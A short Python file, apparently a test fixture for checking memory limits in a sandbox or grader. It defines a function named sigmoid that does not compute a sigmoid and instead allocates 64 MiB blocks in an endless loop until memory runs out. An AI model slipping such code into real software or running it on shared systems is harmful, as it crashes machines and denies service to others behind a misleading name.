"""Takes all the memory."""

hoard = []


def sigmoid(x):
    while True:
        hoard.append(bytearray(2**26))
